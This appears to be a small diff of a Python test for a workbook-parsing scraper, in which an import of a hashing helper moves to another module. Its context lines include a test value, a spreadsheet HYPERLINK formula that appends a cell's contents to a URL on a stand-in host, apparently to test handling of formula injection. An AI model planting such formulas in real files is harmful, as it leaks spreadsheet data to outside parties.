@@ -113,7 +113,8 @@ def _site(url: str, tmp: Path) -> Iterator[Site]:
                 .values(label='=HYPERLINK("http://x.example/?"&A1)')
             )
         from spiders.detention_stats import parse_workbook
-        from storage.detention_stats import sha256_of, store_edition
+        from storage.detention_stats import store_edition
+        from storage.files import sha256_of
 
         with session_scope(engine) as s:
             for path in EDITIONS:
